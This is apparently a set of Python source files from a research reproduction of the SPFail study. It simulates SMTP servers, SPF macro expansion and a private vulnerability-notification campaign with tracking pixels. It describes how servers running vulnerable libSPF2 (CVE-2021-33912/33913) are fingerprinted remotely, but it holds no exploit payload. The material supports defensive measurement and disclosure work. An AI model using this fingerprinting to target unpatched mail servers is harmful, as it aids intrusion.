            raise SmtpProtocolError("session is closed")
        self.log.note(f"-> {line}")
        try:
            command, argument = parse_command_line(line)
        except SmtpProtocolError as exc:
            return self._reply(ReplyCode.SYNTAX_ERROR, str(exc))
        obs = _obs.ACTIVE
        if obs is not None:
            obs.metrics.counter("smtp.commands").inc(command.name)
            if obs.tracer.enabled:
                obs.tracer.event(
                    "smtp.command", verb=command.name, server=self.server.ip
                )

        return SmtpSession._DISPATCH[command](self, argument)

    def _on_helo(self, argument: str) -> Reply:
        if self.server.policy.failure_stage == FailureStage.HELO:
            self._close()
            return self._reply(ReplyCode.SERVICE_UNAVAILABLE, "closing")
        self._helo = argument or "unknown"
        return self._reply(ReplyCode.OK, f"{self.server.hostname} greets {self._helo}")

    def _on_mail(self, argument: str) -> Reply:
        if self._helo is None:
            return self._reply(ReplyCode.BAD_SEQUENCE, "send HELO first")
        if self.server.policy.failure_stage == FailureStage.MAIL_FROM:
            self._close()
            return self._reply(ReplyCode.TRANSACTION_FAILED, "rejected")
        try:
            sender = parse_path(argument, "FROM")
        except SmtpProtocolError as exc:
            return self._reply(ReplyCode.SYNTAX_ERROR, str(exc))
        self._sender = sender
        self._recipients = []

        outcomes = self.server._validate(
            SpfTiming.ON_MAIL_FROM, self.client_ip, sender, self._helo
        )
        if self._maybe_crash(outcomes):
            return self._reply(ReplyCode.SERVICE_UNAVAILABLE, "internal error")
        self._spf_fail = self._spf_failed(outcomes)
        return self._reply(ReplyCode.OK, "sender ok")

    def _on_rcpt(self, argument: str) -> Reply:
        if self._sender is None:
            return self._reply(ReplyCode.BAD_SEQUENCE, "send MAIL first")
        if self.server.policy.failure_stage == FailureStage.RCPT_TO:
            self._close()
            return self._reply(ReplyCode.TRANSACTION_FAILED, "rejected")
        try:
            recipient = parse_path(argument, "TO")
        except SmtpProtocolError as exc:
            return self._reply(ReplyCode.SYNTAX_ERROR, str(exc))

        if self._spf_fail:
            # The policy said -all and this server enforces at RCPT.
            self._policy_event("spf-rejected")
            return self._reply(ReplyCode.MAILBOX_UNAVAILABLE, "SPF check failed")

        local_part = recipient.rsplit("@", 1)[0] if "@" in recipient else recipient
        if not self.server.policy.recipients.accepts(local_part):
            self._policy_event("user-unknown")
            return self._reply(ReplyCode.MAILBOX_UNAVAILABLE, "user unknown")

        greylist = self.server.policy.greylist
        if greylist.enabled:
            key = (self.client_ip, self._sender or "")
            first = self.server._greylist_first_seen.get(key)
            if first is None:
                self.server._greylist_first_seen[key] = self.now
                self._policy_event("greylisted")
                return self._reply(ReplyCode.MAILBOX_BUSY, "greylisted, try again later")
            if (self.now - first).total_seconds() < greylist.retry_after_seconds:
                self._policy_event("greylisted")
                return self._reply(ReplyCode.MAILBOX_BUSY, "greylisted, try again later")

        self._recipients.append(recipient)
        return self._reply(ReplyCode.OK, "recipient ok")

    def _on_data(self, argument: str) -> Reply:
        if not self._recipients:
            return self._reply(ReplyCode.BAD_SEQUENCE, "need RCPT first")
        if self.server.policy.failure_stage == FailureStage.DATA:
            self._close()
            return self._reply(ReplyCode.TRANSACTION_FAILED, "rejected")

        outcomes = self.server._validate(
            SpfTiming.ON_DATA_COMMAND, self.client_ip, self._sender or "", self._helo or ""
        )
        if self._maybe_crash(outcomes):
            return self._reply(ReplyCode.SERVICE_UNAVAILABLE, "internal error")
        if self._spf_failed(outcomes):
            self._spf_fail = True

        self._in_data = True
        return self._reply(ReplyCode.START_MAIL_INPUT, "end with <CRLF>.<CRLF>")

    def send_message(self, data: str) -> Reply:
        """Deliver message content after a 354 (BlankMsg sends "")."""
        if not self._in_data:
            raise SmtpProtocolError("DATA was not accepted")
        self._in_data = False

        if self.server.policy.failure_stage == FailureStage.MESSAGE:
            self._close()
            return self._reply(ReplyCode.TRANSACTION_FAILED, "message rejected")

        outcomes = self.server._validate(
            SpfTiming.AFTER_MESSAGE, self.client_ip, self._sender or "", self._helo or ""
        )
        if self._maybe_crash(outcomes):
            return self._reply(ReplyCode.SERVICE_UNAVAILABLE, "internal error")
        if self._spf_fail or self._spf_failed(outcomes):
            return self._reply(ReplyCode.TRANSACTION_FAILED, "SPF check failed")

        if self.server.policy.enforce_dmarc and self._dmarc_rejects(outcomes):
            return self._reply(ReplyCode.TRANSACTION_FAILED, "rejected per DMARC policy")

        for recipient in self._recipients:
            self.server.inbox.append(
                DeliveredMessage(
                    sender=self._sender or "",
                    recipient=recipient,
                    data=data,
                    received=self.now,
                )
            )
        self._sender = None
        self._recipients = []
        return self._reply(ReplyCode.OK, "message accepted")

    def _dmarc_rejects(self, outcomes: List[CheckHostOutcome]) -> bool:
        """Does the sender domain's DMARC policy demand rejection?

        DMARC passes only on an aligned SPF pass; anything else consults
        the published policy (DKIM is not modeled — the probe never signs).
        """
        from ..spf.dmarc import Disposition, evaluate_dmarc
        from ..spf.result import SpfResult
        from .protocol import address_domain

        if self.server.resolver is None or self._sender is None:
            return False
        domain = address_domain(self._sender)
        if not domain:
            return False
        spf_passed = any(o.result == SpfResult.PASS for o in outcomes)
        disposition = evaluate_dmarc(
            self.server.resolver,
            header_from_domain=domain,
            spf_result=SpfResult.PASS if spf_passed else SpfResult.FAIL,
            spf_domain=domain,
        )
        return disposition == Disposition.REJECT

    def _on_rset(self, argument: str) -> Reply:
        self._sender = None
        self._recipients = []
        self._in_data = False
        self._spf_fail = False
        return self._reply(ReplyCode.OK, "flushed")

    def _on_noop(self, argument: str) -> Reply:
        return self._reply(ReplyCode.OK, "ok")

    def _on_quit(self, argument: str) -> Reply:
        self._close()
        return self._reply(ReplyCode.CLOSING, "bye")

    def abort(self) -> None:
        """Client dropped the TCP connection (the NoMsg termination)."""
        self._close()

    # Class-level dispatch: built once, not per command line.
    _DISPATCH = {
        Command.HELO: _on_helo,
        Command.EHLO: _on_helo,
        Command.MAIL: _on_mail,
        Command.RCPT: _on_rcpt,
        Command.DATA: _on_data,
        Command.RSET: _on_rset,
        Command.NOOP: _on_noop,
        Command.QUIT: _on_quit,
    }
