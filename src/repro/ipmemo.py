"""Memoized IP address/network parsing for hot paths.

``ipaddress`` re-parses its text form on every construction, and the
simulation parses the same handful of literals millions of times per
campaign: the shared probe client IP, the measurement server's fixed
answer address, and each fleet MTA's address.  Parsed ``ipaddress``
objects are immutable and hashable, so sharing one instance per literal
is safe.  Both tables are bounded and cleared wholesale when full — the
working set is tiny, the cap only guards against adversarial inputs.

Networks are parsed with ``strict=False`` (host bits allowed), matching
every call site in the SPF evaluator and record parser.
"""

from __future__ import annotations

import ipaddress
from typing import Dict, Union

IPAddress = Union[ipaddress.IPv4Address, ipaddress.IPv6Address]
IPNetwork = Union[ipaddress.IPv4Network, ipaddress.IPv6Network]

_CAP = 8192
_ADDRESSES: Dict[str, IPAddress] = {}
_NETWORKS: Dict[str, IPNetwork] = {}


def ip_address(text: str) -> IPAddress:
    """A shared parsed address for ``text`` (raises ValueError as usual)."""
    addr = _ADDRESSES.get(text)
    if addr is None:
        addr = ipaddress.ip_address(text)
        if len(_ADDRESSES) >= _CAP:
            _ADDRESSES.clear()
        _ADDRESSES[text] = addr
    return addr


def ip_network(text: str) -> IPNetwork:
    """A shared parsed network for ``text``, always ``strict=False``."""
    net = _NETWORKS.get(text)
    if net is None:
        net = ipaddress.ip_network(text, strict=False)
        if len(_NETWORKS) >= _CAP:
            _NETWORKS.clear()
        _NETWORKS[text] = net
    return net
