"""spfail-repro: a reproduction of "SPFail: Discovering, Measuring, and
Remediating Vulnerabilities in Email Sender Validation" (IMC 2022).

The package layers, bottom-up:

- :mod:`repro.dns` -- DNS substrate (names, records, wire codec, zones,
  authoritative servers, resolvers, the measurement query log);
- :mod:`repro.spf` -- RFC 7208 engine with pluggable macro-expansion
  behaviors;
- :mod:`repro.libspf2` -- byte-level port of the vulnerable libSPF2
  expansion code (CVE-2021-33912/33913) over a simulated C heap;
- :mod:`repro.smtp` -- MTA state machines, probe client, in-memory network;
- :mod:`repro.internet` -- the synthetic Internet: domain populations,
  hosting fleet, geography, patch behavior, package managers;
- :mod:`repro.notification` -- private-disclosure email machinery;
- :mod:`repro.core` -- the paper's contribution: benign remote detection
  and the longitudinal measurement campaign;
- :mod:`repro.analysis` -- builders for every table and figure;
- :mod:`repro.simulation` -- one-call assembly of the whole experiment;
- :mod:`repro.api` -- the frozen :class:`~repro.api.RunConfig` describing
  one run (serializable, content-hashed);
- :mod:`repro.store` -- crash-safe checkpointing and deterministic resume
  of longitudinal campaigns.

Quickstart::

    from repro import RunConfig, Simulation
    sim = Simulation.build(config=RunConfig(scale=0.01))
    result = sim.run()
    print(len(result.initial.vulnerable_ips()), "vulnerable addresses")
"""

from .api import RunConfig
from .simulation import Simulation

__version__ = "1.0.0"

__all__ = ["RunConfig", "Simulation", "__version__"]
