"""The tracking-pixel web endpoint.

Each notification's HTML part embeds an image whose URL carries a unique
token; a request for that image is (a lower bound on) an email open.
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass, field
from typing import Dict, List, Optional


@dataclass(frozen=True)
class OpenEvent:
    token: str
    domain: str
    timestamp: _dt.datetime


class TrackingServer:
    """Registers tokens and records pixel fetches."""

    def __init__(self) -> None:
        self._token_domain: Dict[str, str] = {}
        self._opens: List[OpenEvent] = []
        self._first_open: Dict[str, _dt.datetime] = {}

    def register(self, token: str, domain: str) -> None:
        self._token_domain[token] = domain

    def fetch_pixel(self, token: str, when: _dt.datetime) -> bool:
        """A request hit the pixel URL; False if the token is unknown."""
        domain = self._token_domain.get(token)
        if domain is None:
            return False
        self._opens.append(OpenEvent(token=token, domain=domain, timestamp=when))
        if token not in self._first_open:
            self._first_open[token] = when
        return True

    @property
    def total_requests(self) -> int:
        return len(self._opens)

    def opened_tokens(self) -> List[str]:
        return list(self._first_open)

    def first_open(self, token: str) -> Optional[_dt.datetime]:
        return self._first_open.get(token)

    def opened_domains(self) -> List[str]:
        return [self._token_domain[token] for token in self._first_open]
