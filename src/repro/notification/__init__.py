"""Private vulnerability notification (paper Sections 6.4 and 7.7).

On 2021-11-15 the authors emailed postmaster@<domain> for every domain
measured vulnerable: one email per hosting target (deduplicating domains
sharing MX records), sent from infrastructure separate from the
measurement to dodge spam filtering, carrying both a plain-text body and
an HTML body with a uniquely tokened tracking image.

This package reproduces that machinery:

- :mod:`repro.notification.composer` — the email with tracking pixel,
- :mod:`repro.notification.tracking` — the web server counting opens,
- :mod:`repro.notification.delivery` — deduplicated delivery with
  bounces, open simulation, and the (weak) coupling into the
  patch-behavior model.
"""

from .composer import NotificationEmail, compose_notification
from .tracking import TrackingServer, OpenEvent
from .delivery import (
    NotificationCampaign,
    NotificationRecord,
    NotificationReport,
)

__all__ = [
    "NotificationEmail",
    "compose_notification",
    "TrackingServer",
    "OpenEvent",
    "NotificationCampaign",
    "NotificationRecord",
    "NotificationReport",
]
