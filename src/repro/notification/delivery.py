"""Notification delivery, open simulation, and patch coupling.

Delivery rules from the paper (Section 7.7):

- one email per hosting target: a domain with several vulnerable
  addresses gets one email, and several vulnerable domains behind the
  same MX records share one email;
- 31.6% of notifications bounced (modeled by each hosting unit's
  ``accepts_postmaster`` flag);
- 12% of delivered notifications were opened (tracking-pixel lower
  bound), opens spread over the weeks after sending;
- opening barely moved patching: 9 of 512 openers patched between the
  private notification and public disclosure (the coupling lives in
  :meth:`repro.internet.patching.PatchBehaviorModel.on_notification_opened`).
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from ..clock import PUBLIC_DISCLOSURE, SimulatedClock
from ..internet.mta_fleet import HostingUnit, MtaFleet
from ..internet.patching import PatchBehaviorModel
from ..internet.rng import SeededRng
from ..smtp.transport import Network
from .composer import NotificationEmail, compose_notification
from .tracking import TrackingServer


@dataclass
class NotificationRecord:
    """One notification email's fate."""

    unit_id: int
    domain: str  # the representative domain the email was addressed to
    covered_domains: List[str]
    email: NotificationEmail
    delivered: bool
    opened_at: Optional[_dt.datetime] = None

    @property
    def opened(self) -> bool:
        return self.opened_at is not None


@dataclass
class NotificationReport:
    """The paper's Section 7.7 funnel."""

    sent_at: _dt.datetime
    records: List[NotificationRecord] = field(default_factory=list)

    @property
    def sent(self) -> int:
        return len(self.records)

    @property
    def bounced(self) -> int:
        return sum(1 for r in self.records if not r.delivered)

    @property
    def delivered(self) -> int:
        return sum(1 for r in self.records if r.delivered)

    @property
    def opened(self) -> int:
        return sum(1 for r in self.records if r.opened)

    def opened_unit_ids(self) -> List[int]:
        return [r.unit_id for r in self.records if r.opened]

    def delivered_unit_ids(self) -> List[int]:
        return [r.unit_id for r in self.records if r.delivered]

    def bounced_unit_ids(self) -> List[int]:
        return [r.unit_id for r in self.records if not r.delivered]


class NotificationCampaign:
    """Sends the private notifications and simulates recipient behavior."""

    def __init__(
        self,
        fleet: MtaFleet,
        patch_model: PatchBehaviorModel,
        network: Network,
        clock: SimulatedClock,
        *,
        seed: int = 0,
        open_probability: float = 0.12,
        mean_open_delay_days: float = 7.0,
    ) -> None:
        self.fleet = fleet
        self.patch_model = patch_model
        self.network = network
        self.clock = clock
        self.tracking = TrackingServer()
        self.open_probability = open_probability
        self.mean_open_delay_days = mean_open_delay_days
        self._rng = SeededRng(seed).fork("notification")
        self._token_counter = 0

    def _next_token(self) -> str:
        self._token_counter += 1
        return f"t{self._token_counter:08d}"

    def send_notifications(
        self, vulnerable_domains: Sequence[str], when: _dt.datetime
    ) -> NotificationReport:
        """Send one deduplicated notification per hosting target.

        Opens are scheduled on the simulation clock; each open registers
        with the tracking server and nudges the patch model.
        """
        report = NotificationReport(sent_at=when)
        by_unit: Dict[int, List[str]] = {}
        units: Dict[int, HostingUnit] = {}
        for name in vulnerable_domains:
            unit = self.fleet.unit_by_domain.get(name)
            if unit is None:
                continue
            by_unit.setdefault(unit.unit_id, []).append(name)
            units[unit.unit_id] = unit

        for unit_id, names in sorted(by_unit.items()):
            unit = units[unit_id]
            representative = sorted(names)[0]
            token = self._next_token()
            email = compose_notification(representative, token)
            self.tracking.register(token, representative)
            record = NotificationRecord(
                unit_id=unit_id,
                domain=representative,
                covered_domains=sorted(names),
                email=email,
                delivered=unit.accepts_postmaster,
            )
            report.records.append(record)
            if record.delivered:
                self._schedule_open(record, unit, when)
        return report

    def _schedule_open(
        self, record: NotificationRecord, unit: HostingUnit, sent_at: _dt.datetime
    ) -> None:
        if not self._rng.bernoulli(self.open_probability):
            return
        delay_days = self._rng.exponential_days(self.mean_open_delay_days)
        open_at = sent_at + _dt.timedelta(days=delay_days)
        if open_at >= PUBLIC_DISCLOSURE:
            # Opens after public disclosure exist but are not part of the
            # paper's between-disclosures funnel; clamp to just before.
            open_at = PUBLIC_DISCLOSURE - _dt.timedelta(days=1)

        def do_open(when: _dt.datetime, record=record, unit=unit) -> None:
            record.opened_at = when
            self.tracking.fetch_pixel(record.email.tracking_token, when)
            # A plan rewrite needs no (re)scheduling: the next touch of
            # any of the unit's servers reads the updated plan.
            self.patch_model.on_notification_opened(unit, when)

        self.clock.schedule(open_at, do_open)
