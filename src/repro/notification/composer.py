"""Composing the private notification email.

The paper's notification named the vulnerabilities, gave remediation
options (upgrade libSPF2 or switch SPF libraries), announced the public
disclosure date, and embedded a uniquely tokened tracking image in the
HTML part (with an equivalent plain-text part for clients that do not
render HTML).
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass
from typing import Tuple

from ..clock import CVE_IDS, PUBLIC_DISCLOSURE

TRACKING_HOST = "notify.dns-lab.org"


@dataclass(frozen=True)
class NotificationEmail:
    """One rendered notification."""

    recipient: str
    subject: str
    plain_body: str
    html_body: str
    tracking_token: str

    @property
    def tracking_url(self) -> str:
        return f"https://{TRACKING_HOST}/pixel/{self.tracking_token}.png"


def compose_notification(
    domain: str,
    tracking_token: str,
    *,
    disclosure_date: _dt.datetime = PUBLIC_DISCLOSURE,
    cves: Tuple[str, ...] = CVE_IDS,
) -> NotificationEmail:
    """Render the notification for one domain."""
    recipient = f"postmaster@{domain}"
    subject = f"Security notice: SPF validation vulnerability affecting {domain}"
    cve_list = " and ".join(cves)
    disclosure = disclosure_date.date().isoformat()
    plain_body = (
        f"Dear mail administrator of {domain},\n"
        f"\n"
        f"During a research measurement we observed that a mail server\n"
        f"handling email for {domain} validates SPF using a version of the\n"
        f"libSPF2 library containing two critical heap-overflow\n"
        f"vulnerabilities ({cve_list}, CVSS 9.8). A remote attacker can\n"
        f"trigger them by sending email whose sender domain publishes a\n"
        f"crafted SPF record.\n"
        f"\n"
        f"Remediation: upgrade libSPF2 to a build containing the fixes, or\n"
        f"switch to a different SPF validation library.\n"
        f"\n"
        f"We will publicly disclose these vulnerabilities on {disclosure}.\n"
    )
    pixel = (
        f'<img src="https://{TRACKING_HOST}/pixel/{tracking_token}.png" '
        f'width="1" height="1" alt="">'
    )
    html_body = (
        "<html><body>"
        + "".join(f"<p>{paragraph}</p>" for paragraph in plain_body.split("\n\n"))
        + pixel
        + "</body></html>"
    )
    return NotificationEmail(
        recipient=recipient,
        subject=subject,
        plain_body=plain_body,
        html_body=html_body,
        tracking_token=tracking_token,
    )
