"""The RFC 7208 section 7 macro language.

SPF policies may contain macros such as ``%{d1r}`` that are expanded by the
*receiving* mail server at validation time.  The grammar is::

    macro-expand = ( "%{" macro-letter transformers *delimiter "}" )
                   / "%%" / "%_" / "%-"
    transformers = [ *DIGIT ] [ "r" ]
    delimiter    = "." / "-" / "+" / "," / "/" / "_" / "="

Expansion splits the macro value on the delimiters (default ``.``),
optionally reverses the parts (``r``), optionally keeps only the right-most
N parts (the digits), and rejoins with ``.``.  An uppercase macro letter
additionally URL-escapes the output.

This module is the *correct* implementation; the vulnerable and
non-compliant behaviors in :mod:`repro.spf.implementations` deviate from it
in the specific ways the paper fingerprints.
"""

from __future__ import annotations

import datetime as _dt
import ipaddress
from dataclasses import dataclass, field
from typing import List, Optional, Union

from ..errors import MacroError

MACRO_LETTERS = "slodiphcrtv"
DELIMITERS = ".-+,/_="

#: Characters that are *not* URL-escaped by uppercase macros
#: (RFC 7208 section 7.3: the "unreserved" set of RFC 3986).
_UNRESERVED = set(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~"
)

IPAddress = Union[ipaddress.IPv4Address, ipaddress.IPv6Address]


@dataclass
class MacroContext:
    """The inputs available to macro expansion for one SMTP transaction.

    ``domain`` is the current domain under evaluation (which changes as
    ``include:``/``redirect=`` are followed); ``sender`` is the full MAIL
    FROM address.
    """

    sender: str
    domain: str
    client_ip: IPAddress
    helo_domain: str = "unknown"
    receiver: str = "unknown"
    timestamp: Optional[_dt.datetime] = None
    validated_domain: str = "unknown"

    @property
    def local_part(self) -> str:
        if "@" in self.sender:
            return self.sender.rsplit("@", 1)[0]
        return "postmaster"

    @property
    def sender_domain(self) -> str:
        if "@" in self.sender:
            return self.sender.rsplit("@", 1)[1]
        return self.sender

    def letter_value(self, letter: str, *, in_exp: bool = False) -> str:
        """The raw (pre-transformer) value for a macro letter."""
        lower = letter.lower()
        if lower == "s":
            return self.sender if "@" in self.sender else f"postmaster@{self.sender}"
        if lower == "l":
            return self.local_part
        if lower == "o":
            return self.sender_domain
        if lower == "d":
            return self.domain
        if lower == "i":
            if isinstance(self.client_ip, ipaddress.IPv4Address):
                return str(self.client_ip)
            # IPv6: dot-separated nibbles (RFC 7208 section 7.4).
            return ".".join(self.client_ip.exploded.replace(":", ""))
        if lower == "p":
            return self.validated_domain
        if lower == "v":
            return "in-addr" if isinstance(self.client_ip, ipaddress.IPv4Address) else "ip6"
        if lower == "h":
            return self.helo_domain
        if lower in "crt":
            if not in_exp:
                raise MacroError(f"macro %{{{letter}}} is only valid in exp= text")
            if lower == "c":
                return str(self.client_ip)
            if lower == "r":
                return self.receiver
            ts = self.timestamp or _dt.datetime.now(tz=_dt.timezone.utc)
            return str(int(ts.timestamp()))
        raise MacroError(f"unknown macro letter {letter!r}")


@dataclass(frozen=True)
class ParsedMacro:
    """One ``%{...}`` expression, decomposed."""

    letter: str
    keep: Optional[int]  # digit transformer, None = keep all
    reverse: bool
    delimiters: str  # split characters, defaults to "."

    @property
    def url_escape(self) -> bool:
        return self.letter.isupper()


def parse_macro_expr(body: str) -> ParsedMacro:
    """Parse the inside of ``%{`` ... ``}``.

    >>> parse_macro_expr("d1r")
    ParsedMacro(letter='d', keep=1, reverse=True, delimiters='.')
    """
    if not body:
        raise MacroError("empty macro expression")
    letter = body[0]
    if letter.lower() not in MACRO_LETTERS:
        raise MacroError(f"unknown macro letter {letter!r} in %{{{body}}}")
    rest = body[1:]
    i = 0
    digits = ""
    while i < len(rest) and rest[i].isdigit():
        digits += rest[i]
        i += 1
    reverse = False
    if i < len(rest) and rest[i] in ("r", "R"):
        reverse = True
        i += 1
    delimiters = ""
    while i < len(rest):
        ch = rest[i]
        if ch not in DELIMITERS:
            raise MacroError(f"bad delimiter {ch!r} in %{{{body}}}")
        delimiters += ch
        i += 1
    keep: Optional[int] = None
    if digits:
        keep = int(digits)
        if keep == 0:
            raise MacroError(f"zero digit transformer in %{{{body}}}")
    return ParsedMacro(
        letter=letter,
        keep=keep,
        reverse=reverse,
        delimiters=delimiters or ".",
    )


def split_on_delimiters(value: str, delimiters: str) -> List[str]:
    """Split ``value`` at any of the delimiter characters."""
    parts: List[str] = []
    current = ""
    for ch in value:
        if ch in delimiters:
            parts.append(current)
            current = ""
        else:
            current += ch
    parts.append(current)
    return parts


def url_escape(value: str) -> str:
    """URL-escape every character outside RFC 3986's unreserved set."""
    out = []
    for byte in value.encode("utf-8"):
        ch = chr(byte)
        if ch in _UNRESERVED:
            out.append(ch)
        else:
            out.append(f"%{byte:02X}")
    return "".join(out)


def expand_one(macro: ParsedMacro, ctx: MacroContext, *, in_exp: bool = False) -> str:
    """Expand a single parsed macro against a context."""
    value = ctx.letter_value(macro.letter, in_exp=in_exp)
    parts = split_on_delimiters(value, macro.delimiters)
    if macro.reverse:
        parts.reverse()
    if macro.keep is not None:
        parts = parts[-macro.keep:]
    expanded = ".".join(parts)
    if macro.url_escape:
        expanded = url_escape(expanded)
    return expanded


def expand_macros(text: str, ctx: MacroContext, *, in_exp: bool = False) -> str:
    """Expand all macros in a macro-string.

    >>> import ipaddress
    >>> ctx = MacroContext(sender="user@example.com", domain="example.com",
    ...                    client_ip=ipaddress.IPv4Address("192.0.2.1"))
    >>> expand_macros("%{d1r}.foo.com", ctx)
    'example.foo.com'
    """
    out: List[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch != "%":
            out.append(ch)
            i += 1
            continue
        if i + 1 >= len(text):
            raise MacroError("macro-string ends with bare '%'")
        nxt = text[i + 1]
        if nxt == "%":
            out.append("%")
            i += 2
        elif nxt == "_":
            out.append(" ")
            i += 2
        elif nxt == "-":
            out.append("%20")
            i += 2
        elif nxt == "{":
            end = text.find("}", i + 2)
            if end < 0:
                raise MacroError(f"unterminated macro at offset {i}: {text[i:]!r}")
            macro = parse_macro_expr(text[i + 2 : end])
            out.append(expand_one(macro, ctx, in_exp=in_exp))
            i = end + 1
        else:
            raise MacroError(f"invalid macro escape '%{nxt}'")
    return "".join(out)


def contains_macros(text: str) -> bool:
    """True if the macro-string has any ``%{...}`` expression."""
    return "%{" in text
