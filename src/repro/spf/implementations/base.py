"""The behavior interface shared by all SPF macro-expansion variants."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from ..macro import MacroContext


@dataclass
class BehaviorOutcome:
    """What expanding one domain-spec produced.

    ``crashed`` is set when the implementation corrupted memory badly
    enough to take the process down (only the vulnerable libSPF2 behavior
    can do this); the MTA wrapping the evaluator turns that into a dropped
    SMTP connection.
    """

    output: str
    crashed: bool = False
    corrupted: bool = False


class MacroExpansionBehavior:
    """Strategy interface: how an SPF implementation expands macros.

    Subclasses override :meth:`expand`.  ``name`` identifies the behavior
    in fingerprints, population models, and analysis tables.
    """

    #: Registry name; also the label used in analysis output.
    name: str = "abstract"
    #: Human-oriented description for documentation and reports.
    description: str = ""
    #: True if the behavior matches RFC 7208 exactly.
    rfc_compliant: bool = False
    #: True if this behavior is the CVE-2021-33912/33913 fingerprint.
    vulnerable: bool = False

    def expand(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        raise NotImplementedError

    def expand_domain_spec(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        """Expand a mechanism's domain-spec (trailing dot normalized)."""
        outcome = self.expand(text, ctx)
        outcome.output = outcome.output.rstrip(".")
        return outcome

    def __repr__(self) -> str:
        return f"<{type(self).__name__} {self.name!r}>"
