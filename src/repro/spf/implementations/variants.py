"""Non-RFC-compliant (but not vulnerable) expansion behaviors.

Section 7.9 / Table 7 of the paper catalogue servers whose SPF stacks get
macros wrong in ways *distinct* from the libSPF2 fingerprint: failing to
expand at all, reversing without truncating, truncating without reversing,
or substituting something fixed.  Each is modeled here so the population
simulator can reproduce the paper's behavior mix and the detector can tell
them apart.
"""

from __future__ import annotations

from typing import List

from ..macro import (
    MacroContext,
    ParsedMacro,
    parse_macro_expr,
    split_on_delimiters,
    url_escape,
)
from .base import BehaviorOutcome, MacroExpansionBehavior


def _expand_with_transform(
    text: str, ctx: MacroContext, *, apply_reverse: bool, apply_truncate: bool
) -> str:
    """Expand macros but selectively skip transformers."""
    out: List[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch != "%" or i + 1 >= len(text):
            out.append(ch)
            i += 1
            continue
        nxt = text[i + 1]
        if nxt == "%":
            out.append("%")
            i += 2
        elif nxt == "_":
            out.append(" ")
            i += 2
        elif nxt == "-":
            out.append("%20")
            i += 2
        elif nxt == "{":
            end = text.find("}", i + 2)
            if end < 0:
                out.append(ch)
                i += 1
                continue
            macro = parse_macro_expr(text[i + 2 : end])
            value = ctx.letter_value(macro.letter)
            parts = split_on_delimiters(value, macro.delimiters)
            if macro.reverse and apply_reverse:
                parts.reverse()
            if macro.keep is not None and apply_truncate:
                parts = parts[-macro.keep:]
            expanded = ".".join(parts)
            if macro.url_escape:
                expanded = url_escape(expanded)
            out.append(expanded)
            i = end + 1
        else:
            out.append(ch)
            i += 1
    return "".join(out)


class NoExpansionBehavior(MacroExpansionBehavior):
    """Performs no macro expansion at all.

    The DNS query carries the literal macro text, e.g.
    ``%{d1r}.<id>.<suite>.spf-test.dns-lab.org``.
    """

    name = "no-expansion"
    description = "sends the literal macro text in DNS queries"

    def expand(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        return BehaviorOutcome(output=text)


class ReversedNotTruncatedBehavior(MacroExpansionBehavior):
    """Honors the ``r`` transformer but ignores the digit transformer.

    ``%{d1r}`` over ``example.com`` yields ``com.example``.
    """

    name = "reversed-not-truncated"
    description = "reverses labels but never truncates"

    def expand(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        return BehaviorOutcome(
            output=_expand_with_transform(
                text, ctx, apply_reverse=True, apply_truncate=False
            )
        )


class TruncatedNotReversedBehavior(MacroExpansionBehavior):
    """Honors the digit transformer but ignores ``r``.

    ``%{d1r}`` over ``example.com`` yields ``com``.
    """

    name = "truncated-not-reversed"
    description = "truncates labels but never reverses"

    def expand(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        return BehaviorOutcome(
            output=_expand_with_transform(
                text, ctx, apply_reverse=False, apply_truncate=True
            )
        )


class StaticExpansionBehavior(MacroExpansionBehavior):
    """Replaces every macro with a fixed placeholder token.

    Models broken stacks that stub out macro support entirely; the paper's
    "other" erroneous-expansion bucket.
    """

    name = "static-expansion"
    description = "replaces every macro with a fixed token"

    def __init__(self, placeholder: str = "unknown") -> None:
        self.placeholder = placeholder

    def expand(self, text: str, ctx: MacroContext) -> BehaviorOutcome:
        out: List[str] = []
        i = 0
        while i < len(text):
            if text.startswith("%{", i):
                end = text.find("}", i)
                if end > 0:
                    out.append(self.placeholder)
                    i = end + 1
                    continue
            out.append(text[i])
            i += 1
        return BehaviorOutcome(output="".join(out))
