"""Pluggable SPF macro-expansion behaviors.

The SPFail measurement classifies mail servers by *how* they expand the
``%{d1r}`` macro in the measurement policy.  Each observed behavior from
the paper (Section 4.2 and Table 7) is modeled as a
:class:`MacroExpansionBehavior` that the evaluator and the simulated MTAs
plug in:

==============================  ==============================================
behavior                        ``%{d1r}`` over ``example.com`` expands to
==============================  ==============================================
``rfc-compliant``               ``example``
``vulnerable-libspf2``          ``com.com.example``  (the CVE fingerprint)
``patched-libspf2``             ``example``
``no-expansion``                ``%{d1r}`` (literal)
``reversed-not-truncated``      ``com.example``
``truncated-not-reversed``      ``com``
``static-expansion``            ``unknown``
==============================  ==============================================
"""

from .base import BehaviorOutcome, MacroExpansionBehavior
from .rfc_compliant import RfcCompliantBehavior
from .libspf2 import VulnerableLibSpf2Behavior, PatchedLibSpf2Behavior
from .variants import (
    NoExpansionBehavior,
    ReversedNotTruncatedBehavior,
    TruncatedNotReversedBehavior,
    StaticExpansionBehavior,
)

_REGISTRY = {
    behavior.name: behavior
    for behavior in (
        RfcCompliantBehavior(),
        VulnerableLibSpf2Behavior(),
        PatchedLibSpf2Behavior(),
        NoExpansionBehavior(),
        ReversedNotTruncatedBehavior(),
        TruncatedNotReversedBehavior(),
        StaticExpansionBehavior(),
    )
}


def behavior_by_name(name: str) -> MacroExpansionBehavior:
    """Look up a behavior instance by its registry name."""
    try:
        return _REGISTRY[name]
    except KeyError:
        raise KeyError(
            f"unknown SPF behavior {name!r}; known: {sorted(_REGISTRY)}"
        ) from None


def all_behaviors():
    """All registered behavior instances."""
    return list(_REGISTRY.values())


__all__ = [
    "BehaviorOutcome",
    "MacroExpansionBehavior",
    "RfcCompliantBehavior",
    "VulnerableLibSpf2Behavior",
    "PatchedLibSpf2Behavior",
    "NoExpansionBehavior",
    "ReversedNotTruncatedBehavior",
